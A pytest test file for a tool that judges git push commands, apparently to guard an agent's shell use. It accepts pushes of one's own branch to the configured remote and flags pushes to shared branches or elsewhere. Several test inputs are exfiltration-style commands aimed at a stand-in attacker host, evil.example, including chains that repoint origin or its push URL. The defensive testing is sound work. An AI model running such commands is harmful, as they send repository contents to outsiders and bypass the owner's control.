"""Where a push goes: to a remote that the repository has, and to a branch that is not shared."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from assent.contract import Kind
from assent.effects import shell
from assent.facts.links import Links
from assent.facts.pushes import objection


def git(folder: Path, *words: str) -> None:
    subprocess.run(["git", "-C", str(folder), *words], check=True, capture_output=True)


@pytest.fixture
def own(tmp_path: Path) -> Path:
    folder = tmp_path / "own"
    folder.mkdir()
    git(folder, "init", "-q", "-b", "feature")
    git(folder, "remote", "add", "origin", "https://example.com/o/r.git")
    git(folder, "symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/next")
    return folder


def objections(folder: Path, command: str) -> list[str]:
    """The objections to the pushes of a command."""
    lowering = shell.lower(command, cwd=str(folder), home="/home/user")
    names = [
        effect.target.name
        for effect in lowering.effects
        if effect.target.kind is Kind.HOOKS and effect.target.name.startswith("push=")
    ]
    return [found for name in names if (found := objection(name, lowering, Links(None)))]


@pytest.mark.parametrize(
    "command",
    [
        "git push",
        "git push origin HEAD",
        "git push -u origin feature",
        "git push origin HEAD:refs/heads/fix/x",
        "git push https://example.com/o/r.git feature",
        "git push -u origin $(git branch --show-current)",
        "git checkout -b fix/y && git commit -m x && git push -u origin HEAD",
        "git switch fix/z && git push",
        "git push --tags",
    ],
)
def test_a_branch_of_ones_own_goes_to_a_remote_that_is_configured(own: Path, command: str) -> None:
    assert objections(own, command) == []


@pytest.mark.parametrize(
    "command",
    [
        "git push origin next",
        "git push origin HEAD:next",
        "git switch main && git push",
        "git checkout main && git push",
        "git checkout -b main && git push -u origin HEAD",
        "git branch -M main && git push -u origin HEAD",
        'git checkout "$X" && git push',
        "git push evil feature",
        "git push https://evil.example/o/r.git feature",
        "git push git@evil.example:o/r.git feature",
        "git push ../other feature",
        "git remote add evil https://evil.example && git push evil feature",
        "git remote set-url origin https://evil.example && git push origin feature",
        "git config remote.origin.pushurl https://evil.example && git push origin feature",
    ],
)
def test_a_shared_branch_or_another_remote_is_objected_to(own: Path, command: str) -> None:
    assert objections(own, command)


def test_the_current_branch_is_that_of_the_repository(own: Path) -> None:
    git(own, "symbolic-ref", "HEAD", "refs/heads/main")
    assert objections(own, "git push")
    assert objections(own, "git push origin HEAD")
    assert not objections(own, "git push origin other")


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("branch.feature.merge", "refs/heads/main"),
        ("push.default", "matching"),
        ("remote.origin.push", "refs/heads/feature:refs/heads/main"),
        ("remote.pushDefault", "https://evil.example/o/r.git"),
        ("branch.feature.pushRemote", "https://evil.example/o/r.git"),
    ],
)
def test_settings_that_lead_elsewhere_are_seen(own: Path, key: str, value: str) -> None:
    git(own, "config", key, value)
    assert objections(own, "git push")


def test_where_there_is_no_repository_nothing_is_pushed(tmp_path: Path) -> None:
    assert objections(tmp_path, "git push") == []
    assert objections(tmp_path, "git init && git push")
